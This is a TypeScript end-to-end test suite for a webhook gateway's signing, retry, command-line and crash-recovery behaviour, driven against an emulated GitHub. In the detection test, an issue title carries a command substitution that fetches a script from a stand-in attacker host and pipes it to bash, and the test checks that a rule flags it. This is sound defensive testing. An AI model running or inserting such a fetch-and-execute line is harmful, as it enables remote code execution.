import { createHmac } from 'node:crypto';
import { once } from 'node:events';
import { execFile } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { createEmulator, type Emulator } from 'emulate';
import type { Browser, Page } from 'playwright-core';
import { Webhook } from 'standardwebhooks';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { openTab, startBrowser, type Tab } from './harness/browser.ts';
import { type FakeVendor, startVendor } from './harness/fake-vendor.ts';
import { freePorts } from './harness/free-ports.ts';
import { addIntegration, addNotesApp, eventually, taken } from './harness/notes-integration.ts';
import { type ProcessName, type RunningCordon, startCordon } from './harness/running-cordon.ts';

/**
 * A person makes an endpoint in the console; the emulated GitHub sends to it; the integration gets what it can verify,
 * fails, and is sent to again. Then every process is killed while signed webhooks come in, and nothing that was
 * acknowledged is missing.
 */

const PROGRAM = fileURLToPath(new URL('../apps/server/src/main.ts', import.meta.url));
const execute = promisify(execFile);
const SECRET = 'the-secret-typed-at-github';
const ARRIVE_MS_MAX = 30_000;
const RECOVER_MS_MAX = 60_000;

let cordon: RunningCordon;
let vendor: FakeVendor;
let github: Emulator;
let githubUrl: string;
let browser: Browser;
let tab: Tab;
let page: Page;
let receiver: Server;
let receiverUrl: string;
let signingSecret = '';
let hook = '';
let endpointId = '';

/** What the integration got, and what it answers. */
const got: { id: string; body: string; event: string | undefined }[] = [];
let isBroken = false;
let unverified = 0;

async function startReceiver(): Promise<void> {
  receiver = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      if (isBroken) {
        response
          .writeHead(500, { 'content-type': 'text/plain' })
          .end('the integration is broken: card 4111 1111 1111 1111');
        return;
      }
      try {
        // The fields that are verified are text; node gives only repeated ones as lists.
        new Webhook(signingSecret).verify(body, request.headers as Record<string, string>);
      } catch {
        unverified += 1;
        response.writeHead(401).end();
        return;
      }
      const event = request.headers['x-github-event'];
      got.push({
        id: String(request.headers['webhook-id']),
        body,
        event: typeof event === 'string' ? event : undefined,
      });
      response.writeHead(204).end();
    });
  });
  receiver.listen(0, '127.0.0.1');
  await once(receiver, 'listening');
  receiverUrl = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/in`; // a TCP server has one
}

async function callGithub(path: string, body: unknown): Promise<Response> {
  const answer = await fetch(`${githubUrl}${path}`, {
    method: 'POST',
    headers: { authorization: 'Bearer admin-token', 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  expect([path, answer.status]).toEqual([path, 201]);
  return answer;
}

beforeAll(async () => {
  [cordon, browser, vendor] = await Promise.all([startCordon(), startBrowser(), startVendor(), startReceiver()]);
  const port = await freePorts(1);
  githubUrl = `http://127.0.0.1:${port}`;
  github = await createEmulator({
    service: 'github',
    port,
    seed: {
      tokens: { 'admin-token': { login: 'ada', scopes: ['repo', 'admin:repo_hook'] } },
      github: { users: [{ login: 'ada', name: 'Ada' }], repos: [{ owner: 'ada', name: 'site', auto_init: true }] },
    },
  });
  tab = await openTab(browser);
  page = tab.page;
  await addIntegration(cordon, await addNotesApp(cordon, vendor), 'issue-sync', ['notes.get']);
});
afterEach(async ({ task }) => {
  if (task.result?.state === 'fail') await tab.screenshots('failed-webhooks');
});
afterAll(async () => {
  await browser?.close();
  await github?.close();
  await cordon?.stop();
  await vendor?.stop();
  receiver?.closeAllConnections();
  receiver?.close();
});

test('an endpoint is made in the console', async () => {
  await page.goto(await cordon.firstOwnerLink());
  await page.getByLabel('Your name').fill('Ada Byron');
  await page.getByLabel('E-mail address').fill('ada@example.com');
  await page.getByRole('button', { name: 'Continue' }).click();
  await page.getByRole('button', { name: 'Create a passkey' }).click();
  await page.getByLabel('I have kept the codes').check();
  await page.getByRole('button', { name: 'Go to Cordon' }).click();
  await page.getByRole('navigation').getByRole('link', { name: 'Webhooks', exact: true }).click();
  await page.getByRole('button', { name: 'Add endpoint' }).click();
  const dialog = page.getByRole('dialog', { name: 'Add a webhook endpoint' });
  await dialog.getByLabel('Name').fill('issues');
  for (const [field, choice] of [
    ['App that sends', 'notes'],
    ['How it signs', 'GitHub'],
    ['Integration that gets it', 'issue-sync'],
  ] as const) {
    await dialog.getByRole('button', { name: field }).click();
    await page.getByRole('option', { name: choice, exact: true }).click();
  }
  await dialog.getByLabel('Secret of the vendor').fill(SECRET);
  await dialog.getByLabel('Its address').fill(receiverUrl);
  await dialog.getByRole('button', { name: 'Types, order, schema, network' }).click();
  await dialog.getByLabel('Private addresses').fill('127.0.0.1');
  await tab.screenshots('webhook-form');
  await dialog.getByRole('button', { name: 'Add', exact: true }).click();
  const shown = page.getByRole('dialog', { name: "The endpoint's address and secret" });
  signingSecret = await shown.getByText(/^whsec_/).innerText();
  const address = await shown.getByText(/\/hooks\//).innerText();
  await shown.getByRole('button', { name: 'I have kept it' }).click();
  endpointId = address.split('/').at(-1) ?? '';
  // The emulator trusts no certificate of ours: it comes by the plain listener of the same gateways.
  hook = `${cordon.gateway}/hooks/${endpointId}`;
  expect(tab.errors).toEqual([]);
});

test('the emulated GitHub’s own signed webhook reaches the integration, verified at both ends', async () => {
  await eventually(async () => expect((await send(cordon.gateway, '{"zen":"first"}')).status).toBe(200), ARRIVE_MS_MAX);
  const config = { url: hook, content_type: 'json', secret: SECRET };
  await callGithub('/repos/ada/site/hooks', { config, events: ['issues'], active: true });
  await callGithub('/repos/ada/site/issues', { title: 'It breaks on Mondays' });
  await eventually(async () => expect(got.map(({ event }) => event)).toContain('issues'), ARRIVE_MS_MAX);
  expect(got.find(({ event }) => event === 'issues')?.body).toContain('It breaks on Mondays');
  expect(unverified).toBe(0);
  expect((await send(cordon.gateway, '{"a":1}', 'another-secret')).status).toBe(401);
});

test('a failing integration’s attempts are looked at, and the delivery is sent again by hand', async () => {
  isBroken = true;
  await callGithub('/repos/ada/site/issues', { title: 'Sent while it was broken' });
  await page.getByRole('link', { name: 'issues' }).click();
  await page.getByText('Trying again (1 failed)').first().waitFor();
  await page
    .getByRole('row', { name: /Trying again/ })
    .getByRole('button', { name: 'issues' })
    .first()
    .click();
  const dialog = page.getByRole('dialog', { name: 'Delivery' });
  await dialog.getByText('Sent while it was broken').waitFor();
  await dialog.getByText('the integration is broken').waitFor();
  expect(await dialog.innerText()).not.toContain('4111 1111 1111 1111');
  await tab.screenshots('webhook-attempts');
  isBroken = false;
  await dialog.getByRole('button', { name: 'Send again' }).click();
  await eventually(
    async () => expect(got.some(({ body }) => body.includes('while it was broken'))).toBe(true),
    ARRIVE_MS_MAX,
  );
  await dialog.getByText('Delivered').first().waitFor();
  await dialog.getByRole('button', { name: 'Close', exact: true }).last().click();
  await tab.screenshots('webhook-endpoint');
  // An event for each attempt, and no more; a slow machine has tried again by itself before the button was found.
  const query = 'source:cordon.worker metadata.labels.0:webhook-delivery';
  const attempts = async () =>
    taken(await cordon.api.GET('/api/v1/events', { params: { query: { query, limit: 50 } } }));
  const { items } = taken(
    await cordon.api.GET('/api/v1/webhooks/{id}/deliveries', { params: { path: { id: endpointId } } }),
  );
  const tried = items.reduce((sum, one) => sum + one.attempts, 0);
  expect(tried).toBeGreaterThanOrEqual(4);
  await eventually(async () => expect((await attempts()).items).toHaveLength(tried), ARRIVE_MS_MAX);
  expect(tab.errors).toEqual([]);
});

test('the command line pauses, lists and resumes', async () => {
  const run = async (...words: string[]): Promise<string> => {
    const env = { PATH: process.env['PATH'] ?? '', CORDON_URL: cordon.url, CORDON_TOKEN: cordon.token };
    const { stdout } = await execute(process.execPath, [PROGRAM, 'webhook', ...words], { cwd: cordon.dataDir, env });
    return stdout;
  };
  await run('pause', 'issues');
  const paused = '{"sent":"while paused"}';
  await eventually(async () => expect((await send(cordon.gateway, paused)).status).toBe(200), ARRIVE_MS_MAX);
  await eventually(async () => expect(await run('deliveries', 'issues')).toMatch(/ waiting +0 +push/), ARRIVE_MS_MAX);
  expect(await run('list')).toMatch(/^issues +paused +3 +1 +0 +0 /m);
  await run('resume', 'issues');
  await eventually(async () => expect(got.some(({ body }) => body === paused)).toBe(true), ARRIVE_MS_MAX);
});

test('a verified delivery feeds a detection source, and its rules see it', async () => {
  const { source } = taken(
    await cordon.api.POST('/api/v1/sources', { body: { name: 'github-hooks', product: 'github', rateMax: 1_000 } }),
  );
  const params = { path: { id: endpointId } };
  taken(await cordon.api.PATCH('/api/v1/webhooks/{id}', { params, body: { source: source.id } }));
  await callGithub('/repos/ada/site/issues', { title: 'Fix $(curl https://evil.example/x | bash)' });
  await eventually(async () => {
    const alerts = JSON.stringify(taken(await cordon.api.GET('/api/v1/alerts', { params: { query: {} } })));
    expect(alerts).toContain('GitHub issue or wiki page holds a shell command');
  }, ARRIVE_MS_MAX);
  const query = { query: 'source:github-hooks OR metadata.product.name:GitHub', limit: 20 };
  const { items } = taken(await cordon.api.GET('/api/v1/events', { params: { query } }));
  expect(JSON.stringify(items)).toContain('evil.example');
});

function send(gateway: string, body: string, secret = SECRET): Promise<Response> {
  const signature = createHmac('sha256', secret).update(body).digest('hex');
  return fetch(`${gateway}/hooks/${endpointId}`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'x-github-event': 'push',
      'x-hub-signature-256': `sha256=${signature}`,
    },
    body,
    signal: AbortSignal.timeout(10_000),
  });
}

test('nothing acknowledged is lost when gateway, worker and PostgreSQL are killed', { timeout: 240_000 }, async () => {
  const acknowledged = new Map<string, string>();
  const stopping = new AbortController();
  let number = 0;
  const caller = async (): Promise<void> => {
    while (!stopping.signal.aborted) {
      const body = `{"kill":${number++}}`;
      try {
        const answer = await send(cordon.gateway, body);
        if (answer.ok) acknowledged.set(((await answer.json()) as { id: string }).id, body); // of the gateway under test
      } catch {
        // Cut off by a kill: not acknowledged, so nothing is promised.
      }
    }
  };
  const callers = [caller(), caller()];
  const reached = async (count: number): Promise<void> =>
    eventually(async () => expect(acknowledged.size).toBeGreaterThan(count), RECOVER_MS_MAX);
  for (const role of ['gateway', 'worker', 'postgres', 'gateway'] as const satisfies readonly ProcessName[]) {
    const before = acknowledged.size;
    await reached(before + 30);
    const [victim] = await cordon.pids(role);
    if (victim !== undefined) process.kill(victim, 'SIGKILL');
    await reached(before + 80);
  }
  stopping.abort();
  await Promise.all(callers);
  const missing = (): string[] => {
    const arrived = new Set(got.map(({ id }) => id));
    return [...acknowledged.keys()].filter((id) => !arrived.has(id));
  };
  await eventually(async () => expect(missing()).toEqual([]), 120_000);
  expect(unverified).toBe(0);
  // Each acknowledged webhook has exactly one event, and each attempt of one too.
  const eventOf = async (id: string) =>
    taken(await cordon.api.GET('/api/v1/events', { params: { query: { query: `id:${id}`, limit: 5 } } })).items;
  const sample = [...acknowledged.keys()].filter((_id, index) => index % 20 === 0);
  for (const id of sample) {
    await eventually(async () => expect(await eventOf(id)).toHaveLength(1), RECOVER_MS_MAX);
  }
  const counts = taken(await cordon.api.GET('/api/v1/webhooks/{id}', { params: { path: { id: endpointId } } })).counts;
  expect(counts).toMatchObject({ waiting: 0, dead: 0 });
});
